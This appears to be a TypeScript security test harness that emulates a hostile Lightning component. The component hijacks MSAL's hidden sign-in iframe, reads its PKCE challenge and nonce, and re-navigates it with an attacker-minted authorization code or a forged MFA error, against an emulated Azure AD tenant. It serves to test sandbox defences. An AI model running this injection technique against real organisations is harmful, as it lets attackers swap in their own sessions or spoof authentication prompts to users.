import { mintCode } from './aad-mint.js';
import type { LwsScenario } from './lws-aad.js';
import { runInSandbox } from './lws-sandbox.js';
import { msalIframesIn, recordShadowRoots } from './shadow-roots.js';

/** The namespace key of the hostile component: another (managed-package) namespace on the page. */
export const hostileNamespace = 'evil';

/** How the hostile component re-navigates MSAL's iframe. */
export type HostileNavigation =
  /** `frame.setAttribute('src', …)`: LWS lets another namespace do it (not `frame.src =`). */
  | 'setAttribute'
  /** `frame.contentWindow.location.href = …`: no attribute of the element changes. */
  | 'location';

/** What the hostile component puts in the answer it forges. */
export type HostileForgery =
  /** A code the attacker obtained for their own account, bound to the victim's PKCE challenge and nonce. */
  | 'code'
  /** `#error=interaction_required`. */
  | 'error';

/** What the hostile component did. */
export interface HostileReport {
  /** It found MSAL's iframe with an authorize URL in its `src`. */
  found: boolean;
  /** It re-navigated the iframe to the org's redirect page with the forged answer. */
  navigated: boolean;
  error?: string;
}

/** What the harness hands into the hostile sandbox. */
interface HostileContext {
  navigation: HostileNavigation;
  forgery: HostileForgery;
  /** The iframe, if the harness found it (a hidden one included), else `undefined`. */
  leakedFrame: () => HTMLIFrameElement | undefined;
  /** Stands in for the attacker's own sign-in to Azure AD with the victim's request parameters. */
  mint: (request: {
    clientId: string;
    challenge: string;
    nonce: string;
    redirectUri: string;
    scope: string;
  }) => Record<string, string>;
  timeoutMs: number;
}

/**
 * The hostile component, inside its own namespace's sandbox: watches `<body>` with a
 * MutationObserver where LWS allows it (ungated; gated LWS throws) and polls the DOM for MSAL's
 * hidden iframe, reads `state`, `nonce` and the PKCE challenge from its `src`, obtains an answer
 * for the attacker, and re-navigates the iframe to the org's redirect page with it — once. Only
 * this function's text enters the sandbox.
 */
async function sandboxedHostile(context: HostileContext): Promise<HostileReport> {
  const deadline = Date.now() + context.timeoutMs;
  const observed: HTMLIFrameElement[] = [];
  const observer = new MutationObserver((records) => {
    for (const record of records) {
      for (const node of record.addedNodes) {
        if (node instanceof HTMLIFrameElement && node.classList.contains('msalSilentIframe'))
          observed.push(node);
      }
    }
  });
  try {
    observer.observe(document.body, { childList: true, subtree: true });
  } catch {
    // Gated LWS: "Cannot observe mutations on shared element BODY".
  }
  while (Date.now() < deadline) {
    const frame =
      context.leakedFrame() ??
      observed.at(-1) ??
      document.querySelector<HTMLIFrameElement>('iframe.msalSilentIframe') ??
      undefined;
    const src = frame?.getAttribute('src');
    if (frame && src?.includes('state=')) {
      try {
        const request = new URL(src).searchParams;
        const redirectUri = request.get('redirect_uri') ?? '';
        const answer = new URLSearchParams(
          context.forgery === 'code'
            ? context.mint({
                clientId: request.get('client_id') ?? '',
                challenge: request.get('code_challenge') ?? '',
                nonce: request.get('nonce') ?? '',
                redirectUri,
                scope: request.get('scope') ?? '',
              })
            : {
                error: 'interaction_required',
                error_description:
                  'AADSTS50076: Due to a configuration change you must use multi-factor authentication.',
                error_codes: '50076',
              },
        );
        answer.set('state', request.get('state') ?? '');
        const target = `${redirectUri}#${answer}`;
        if (context.navigation === 'setAttribute') frame.setAttribute('src', target);
        else if (frame.contentWindow) frame.contentWindow.location.href = target;
        observer.disconnect();
        return { found: true, navigated: true };
      } catch (error) {
        return {
          found: true,
          navigated: false,
          error: `${(error as Error).name}: ${(error as Error).message}`,
        };
      }
    }
    await new Promise((resolve) => setTimeout(resolve, 2));
  }
  observer.disconnect();
  return { found: false, navigated: false };
}

/** Options of {@link startHostile}. */
export interface HostileOptions {
  navigation: HostileNavigation;
  forgery: HostileForgery;
  /** The attacker's username in the emulated tenant. Default Sam. */
  attacker?: string;
  /**
   * Hand the iframe to the hostile component even when it is hidden in a closed shadow root: the
   * test page (outside LWS) records the shadow roots created while it runs, standing in for an
   * attacker who finds the iframe some other way. Tests the defences behind the hiding.
   */
  leak: boolean;
  /** How long the hostile component looks for the iframe. Default 8 s. */
  timeoutMs?: number;
}

/** A running hostile component. */
export interface Hostile {
  /** Resolves once it has navigated MSAL's iframe, or given up looking. */
  report: Promise<HostileReport>;
  /** Stops the harness's shadow-root recording (call in `finally`). */
  stop(): void;
}

/** Starts the hostile component in its own namespace against the scenario's tenant. */
export function startHostile(s: LwsScenario, options: HostileOptions): Hostile {
  const recording = options.leak ? recordShadowRoots() : undefined;
  const context: HostileContext = {
    navigation: options.navigation,
    forgery: options.forgery,
    leakedFrame: () => msalIframesIn(recording?.roots ?? []).find((frame) => frame.isConnected),
    mint: (request) =>
      mintCode(s.aad, {
        username: options.attacker ?? 'sam@contoso.com',
        clientId: request.clientId,
        challenge: request.challenge,
        nonce: request.nonce,
        redirectUri: request.redirectUri,
        scopes: request.scope.split(' ').filter(Boolean),
      }),
    timeoutMs: options.timeoutMs ?? 8_000,
  };
  return {
    report: runInSandbox(sandboxedHostile, context, { namespace: hostileNamespace }),
    stop: () => recording?.stop(),
  };
}
